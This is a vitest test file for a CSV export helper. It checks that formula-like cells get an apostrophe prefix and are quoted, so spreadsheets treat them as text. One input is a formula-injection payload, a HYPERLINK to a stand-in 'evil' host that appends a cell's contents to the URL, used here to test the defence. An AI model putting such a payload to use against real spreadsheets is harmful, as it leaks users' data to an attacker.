import { describe, expect, it } from "vitest";
import { csvCell, toCsv } from "@/lib/triage/csv";

describe("CSV cells", () => {
  it.each(["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])(
    "prefixes %j with an apostrophe so it is text, not a formula",
    (value) => {
      expect(csvCell(value).replace(/^"|"$/g, "")).toBe(`'${value}`);
    },
  );

  it.each([
    ["plain", '"plain"'],
    ["a,b", '"a,b"'],
    ["a;b", '"a;b"'],
    ['say "hi"', '"say ""hi"""'],
    ["two\nlines", '"two\nlines"'],
    [null, ""],
    [42, '"42"'],
    ["", ""],
  ])("writes %j as %j", (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });

  it.each(['Smith;=HYPERLINK("http://evil/?"&A1)', "Jo, +44 7700 900123", "x; @SUM(A1)"])(
    "defuses %j, which a spreadsheet splitting on ; or , would run as a formula (L-6)",
    (value) => {
      expect(csvCell(value)).toBe(`"'${value.replaceAll('"', '""')}"`);
    },
  );

  it("starts with a byte-order mark and ends rows with CRLF", () => {
    expect(toCsv(["A", "B"], [["1", "=2"]])).toBe('\uFEFF"A","B"\r\n"1","\'=2"\r\n');
  });
});
